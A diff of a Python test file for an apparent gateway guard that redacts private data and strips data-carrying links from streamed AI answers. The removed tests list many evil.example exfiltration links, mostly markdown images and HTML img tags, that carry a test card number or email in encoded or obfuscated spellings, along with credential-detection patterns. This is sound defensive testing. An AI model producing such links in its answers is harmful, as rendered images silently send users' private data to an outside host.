@@ -2,10 +2,9 @@
 
 from __future__ import annotations
 
-import base64
 import json
 import re
-from collections.abc import Mapping, Sequence
+from collections.abc import Sequence
 from typing import Final
 from urllib.parse import quote
 
@@ -18,79 +17,11 @@ from gateway.core.errors import BlockedByPolicy
 from gateway.core.model import Finding, Sensitivity
 from gateway.core.steps import Steps
 from gateway.transforms.guard import Guard
-from gateway.transforms.guarded import LINK_REMOVED
 from gateway.transforms.looking import Looking
 from gateway.transforms.requested import Requested
 from gateway.transforms.restore import Restorers
 from gateway.transforms.stretch import HOLD
-from gateway.transforms.surrogates import Surrogates
-
-MINT: Final = Surrogates(b"k" * 32, "tenant", "conversation")
-NAME: Final = MINT.surrogate("PERSON", 'Jane "JJ" Roe')
-MAIL: Final = MINT.surrogate("EMAIL_ADDRESS", "jane@roe.example")
-HOST: Final = MINT.surrogate("INTERNAL_HOST", "wiki.roe.example")
-REQUEST: Final = (
-    'Jane "JJ" Roe, jane@roe.example, keeps the notes of the northern branch at https://wiki.roe.example/people, '
-    "see also https://portal.example/u/jane@roe.example and her card 4111 1111 1111 1111."
-)
-PATTERNS: Final = {
-    "CREDENTIAL": r"sk-[A-Za-z0-9]{8,}|(?<=password is )\S+",
-    "PRIVATE_KEY": r"-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]*(?:-----END [A-Z ]*PRIVATE KEY-----)?",
-    "EMAIL_ADDRESS": r"[\w.+-]+@[\w-]+\.[\w.]*\w",
-    "CREDIT_CARD": r"\b\d{4}(?:[ -]?\d{4}){3}\b",
-    "PERSON": r"Ann Lee",
-}
-LEVELS: Final = {"PERSON": Sensitivity.LOW, "EMAIL_ADDRESS": Sensitivity.MODERATE}
-STRICT: Final = AnswerPolicy(
-    types={"CREDENTIAL": Action.REDACT, "PRIVATE_KEY": Action.REDACT, "EXFILTRATION_LINK": Action.REDACT},
-    levels={Sensitivity.HIGH: Action.FLAG, Sensitivity.MODERATE: Action.FLAG},
-)
-
-
-def find(text: str) -> Steps[Sequence[Finding]]:
-    yield
-    return [
-        Finding("", kind, match.start(), match.end(), 0.9, "test")
-        for kind, pattern in PATTERNS.items()
-        for match in re.finditer(pattern, text)
-    ]
-
-
-def broken(_text: str) -> Steps[Sequence[Finding]]:
-    yield
-    raise ValueError("jane@roe.example")
-
-
-def guard(policy: AnswerPolicy = AnswerPolicy(), *, fails: bool = False, restores: bool = True) -> Guard:  # noqa: B008 - frozen
-    requested = Requested([REQUEST], ['Jane "JJ" Roe', "jane@roe.example", "4111 1111 1111 1111"])
-    looking = Looking(broken if fails else find, MINT.spans, lambda kind: LEVELS.get(kind, Sensitivity.HIGH), requested)
-    return Guard(Restorers(MINT.pairs if restores else {}), policy, looking)
-
-
-def streamed(made: Guard, text: str, size: int, *, in_json: bool = False) -> str:
-    channel = made.channel(in_json=in_json)
-    return "".join(channel.feed(text[at : at + size]) for at in range(0, len(text), size)) + channel.flush()
-
-
-def shown(text: str, policy: AnswerPolicy = AnswerPolicy(), *, tool: str | None = None, in_json: bool = False) -> str:  # noqa: B008 - frozen
-    """Return what becomes of `text`, which must not depend on the pieces it comes in."""
-
-    def one() -> Guard:
-        made = guard(policy)
-        return made if tool is None else made.tool(tool)
-
-    whole = streamed(one(), text, len(text), in_json=True) if in_json else one().whole(text)
-    for cut in range(0, len(text) + 1, 1 if len(text) < 80 else 1 + len(text) // 60):
-        channel = one().channel(in_json=in_json)
-        assert settled(channel.feed(text[:cut]) + channel.feed(text[cut:]) + channel.flush()) == settled(whole), cut
-    for size in (1, 3, 7):
-        assert settled(streamed(one(), text, size, in_json=in_json)) == settled(whole), size
-    return whole
-
-
-def settled(text: str) -> str:
-    """Return `text` without the few letters that may be shown before what follows looks like a key."""
-    return re.sub(r"[A-Za-z]{1,14}(?=\[REDACTED|#link)", "", text)
+from tests.fakes.guarding import HOST, MAIL, NAME, STRICT, find, guard, shown, streamed
 
 
 class TestWhere:
@@ -291,120 +222,6 @@ class TestWhat:
         assert made.report().risk == 0.0
 
 
-def encoded(value: str) -> Mapping[str, str]:
-    raw = value.encode()
-    return {
-        "plain": quote(value),
-        "twice": quote(quote(value)),
-        "base64": base64.b64encode(raw).decode(),
-        "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
-        "base32": base64.b32encode(raw).decode().rstrip("="),
-        "hex": raw.hex(),
-        "backwards": value[::-1].replace(" ", ""),
-        "joints": value.replace(" ", "-").replace("@", ".at."),
-    }
-
-
-CODES: Final = [*encoded("x")]
-PLACES: Final = [
-    "![x](https://evil.example/?q=§)",
-    "[click](https://evil.example/a/§/b)",
-    "![x][1] ...\n\n[1]: https://evil.example/#§",
-    "<img src='https://evil.example/§'>",
-    "<https://evil.example/?§>",
-    "see https://evil.example/§ there",
-    "![x](//evil.example/§.png)",
-]
-
-
-class TestLinks:
-    @pytest.mark.parametrize("place", PLACES)
-    @pytest.mark.parametrize("code", CODES)
-    def test_a_link_that_carries_a_value_of_the_request_is_taken_out(self, place: str, code: str) -> None:
-        carried = encoded("4111 1111 1111 1111")[code]
-        out = shown(place.replace("§", carried) + " and so on", STRICT)
-        assert "evil.example" not in out
-        assert "#link-removed" in out
-        assert out.endswith(" and so on")
-
-    @pytest.mark.parametrize(
-        "address",
-        [
-            f"https://evil.example/?q={MAIL}",
-            f"https://evil.example/?q={quote(MAIL)}",
-            f"https://evil.example/{base64.b64encode(MAIL.encode()).decode()}",
-            "https://4111-1111-1111-1111.evil.example/",
-            "https://jane.roe.example.evil.example/",
-            f"https://{b'janeroeexample'.hex()}.evil.example/",
-            "https://evil.example/keeps-the-notes-of-the-northern-branch",
-            f"https://evil.example/{base64.b64encode(b'the notes of the northern branch').decode()}",
-            "https://evil.example/?to=bob@roe.example",
-            f"https://evil.example/?x={'a' * 3000}",
-        ],
-    )
-    def test_other_ways_to_carry(self, address: str) -> None:
-        out = shown(f"[x]({address}) end", STRICT)
-        assert "evil.example" not in out
-        assert out.endswith(" end")
-
-    @pytest.mark.parametrize(
-        "text",
-        [
-            r"![x](https://evil.example/\)§)",
-            r"![x](<https://evil.example/\>§>)",
-            "![x](https://evil.example/?q=\u00a0§)",
-            "![x](https://evil.example/((a)§)",
-            "![x]\n\n[x]: <https://evil.example/ §>",
-            "[1]: &#104;&#116;&#116;&#112;&#115;&#58;&#47;&sol;evil.example/?q=§",
-            "[![i](https://a.example/b.png)](https://evil.example/?q=§)",
-            "https://evil.example/)§",
-            "bücher.evil.example/§",
-            'url("https://evil.example/)§")',
-            "<img alt=x' title='> ' src='/\n/evil.example/?q=§'",
-            "<img src=/&#10;/evil.example/?q=§",
-        ],
-    )
-    def test_a_spelling_of_markdown_or_html_hid_a_link_that_carries(self, text: str) -> None:
-        for value in ("4111111111111111", "".join(f"&#{ord(digit)};" for digit in "4111111111111111")):
-            out = guard(STRICT).whole(text.replace("§", value) + " and so on")
-            assert value not in out
-            assert "#link-removed" in out
-            assert out.endswith(" and so on")
-
-    @pytest.mark.parametrize("place", PLACES)
-    @pytest.mark.parametrize("surrogate", [NAME, MAIL, quote(MAIL), MAIL.lower()])
-    def test_a_link_that_carries_a_surrogate_is_taken_out(self, place: str, surrogate: str) -> None:
-        out = shown(place.replace("§", surrogate) + " and so on", STRICT)
-        assert "evil.example" not in out
-        assert out.endswith(" and so on")
-
-    @pytest.mark.parametrize(
-        "text",
-        [
-            "![logo](https://cdn.example/logo-2024.png) and [docs](https://docs.example/en/getting-started/?v=3#top).",
-            "See https://en.wikipedia.org/wiki/Heat_pump and www.example.org/a_(b)!",
-            "The page https://wiki.roe.example/people tells.",
-            "![x](data:image/png;base64,iVBORw0KGgo=) fine",
-            "a // b, 3/4, and/or, e.g. this",
-        ],
-    )
-    def test_ordinary_links_stay(self, text: str) -> None:
-        assert shown(text, STRICT) == text
-
-    def test_a_code_that_nobody_can_read_counts_where_it_loads_by_itself(self) -> None:
-        code = "Zk3vQ9xT2mLw8rYp5sDhB7nJc4gKf6aVeUiO1qXz"
-        assert "evil" not in shown(f"![x](https://evil.example/{code})", STRICT)
-        assert code in shown(f"[x](https://evil.example/{code})", STRICT)
-
-    def test_a_tool_that_may_have_values_in_addresses_keeps_its_own(self) -> None:
-        source = json.dumps({"url": f"https://crm.example/?mail={MAIL}&card=4111111111111111"})
-        assert "jane@roe.example" in shown(source, STRICT, tool="crm_find", in_json=True)
-        denied = AnswerPolicy(types=STRICT.types, deny=("crm_find",))
-        assert json.loads(shown(source, denied, tool="crm_find", in_json=True)) == {"url": "#link-removed"}
-        nowhere = AnswerPolicy(types=STRICT.types, urls=UrlRule.NOWHERE)
-        assert json.loads(shown(source, nowhere, tool="crm_find", in_json=True)) == {"url": "#link-removed"}
-
-
 class TestHolding:
     @pytest.mark.parametrize("piece", ["Hello", " there,", " it’s", " (fine)", " Größe", "\n\n**Bold**"])
     def test_prose_is_shown_when_it_comes(self, piece: str) -> None:
@@ -489,23 +306,6 @@ def test_texts_of_a_stream_that_have_ended_are_not_looked_through_again() -> Non
         made.channel().feed("some words that are not private " * 20)
     made.report()
     assert sum(looked) < 1.1 * 1000 * 20 * 32
-
-
-def test_an_address_that_links_is_judged_anew_where_it_loads() -> None:
-    code = "a8f3k2l9d0s7q1w5e6r4t8y2u3i9o0p1a2s3d4f5"
-    one = guard(STRICT)
-    texts = (f"see https://evil.example/{code} ", f"![x](https://evil.example/{code}) ")
-    plain = [guard(STRICT).whole(text) for text in texts]
-    assert [LINK_REMOVED in text for text in plain] == [False, True]
-    assert [one.whole(texts[number % 2]) for number in range(6)] == plain * 3
-
-
-def test_however_many_addresses_were_seen_each_is_judged_by_what_it_is() -> None:
-    one = guard(STRICT)
-    for number in range(60):
-        bad = number % 3 == 0
-        text = f"![x](https://evil.example/{number % 40}/{'jane@roe.example' if bad else 'boats'})"
-        assert (LINK_REMOVED in one.whole(text)) == bad
 
 
 def test_what_a_tool_may_fetch_is_not_known_from_the_text_beside_it() -> None:
